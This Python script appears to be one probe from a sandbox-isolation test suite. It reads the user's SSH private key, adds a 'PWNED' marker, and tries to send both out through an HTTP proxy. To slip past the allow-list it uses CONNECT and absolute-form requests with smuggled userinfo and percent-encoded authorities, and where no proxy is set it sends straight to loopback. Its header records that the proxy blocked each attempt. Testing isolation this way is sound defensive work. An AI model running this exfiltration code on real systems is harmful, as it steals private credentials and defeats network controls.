# family: injection
# tries: through stockade-proxy, CONNECT and absolute-form targets with userinfo and percent-encoding ("127.0.0.2:P@127.0.0.1:P", "127.0.0.1%2e"), then the SSH key and a PWNED marker
# source: https://cwe.mitre.org/data/definitions/918.html
# exfil: yes
# stopped-when: canary-unread, pwned-absent
# attempted-when: marker
# Stopped: the proxy refuses each authority (userinfo, percent:
# bad_request); the honeypot and the index receive no key.
import os
import socket
import sys

if len(sys.argv) < 9:
    sys.exit("usage: TOKEN HOME HOSTTMP TCP UDP UNIX DECOY USERFILES")
token, home, port = sys.argv[1], sys.argv[2], int(sys.argv[4])
# The SSH key where the jail lets it be read; with it, always, the proof
# of delivery "PWNED <token>": the token stands for what a job has by
# design (its workspace), which an allow-list must keep in just as well.
try:
    with open(os.path.join(home, ".ssh/id_ed25519"), "rb") as f:
        loot = f.read()
except OSError as e:
    print(f"key: {e.strerror}")
    loot = b""
loot += f"\nPWNED {token}\n".encode()
# The proxy the jail names (HTTP_PROXY=http://127.0.0.1:3128), if any.
proxy = os.environ.get("HTTP_PROXY", "")
pxhost, _, pxport = proxy.removeprefix("http://").rstrip("/").rpartition(":")
print(f"ATTEMPTED {token}", file=sys.stderr, flush=True)


def talk(data, host=pxhost, port=int(pxport or 0), wait=2.0):
    """Sends DATA to HOST:PORT; what came back (at most 4 KiB) or the error."""
    try:
        with socket.create_connection((host, port), timeout=wait) as s:
            s.sendall(data)
            return s.recv(4096)
    except OSError as e:
        return repr(e).encode()


if not proxy:
    # No proxy here (a column without the allow-list): the same bytes
    # straight to the host's loopback, which only isolation stops.
    print("no proxy:", talk(loot, "127.0.0.1", port)[:60])
    sys.exit(0)
p = str(port).encode()
for auth in (b"127.0.0.2:" + p + b"@127.0.0.1:" + p, b"127.0.0.1%2e:" + p,
             b"127%2e0%2e0%2e1:" + p, b"user@127.0.0.2:" + p):
    req = b"CONNECT " + auth + b" HTTP/1.1\r\nHost: " + auth + b"\r\n\r\n"
    print("CONNECT", auth, talk(req + loot)[:40])
    req = (b"POST http://" + auth + b"/ HTTP/1.1\r\nHost: " + auth +
           b"\r\nContent-Length: " + str(len(loot)).encode() + b"\r\n\r\n" + loot)
    print("absolute", auth, talk(req)[:40])
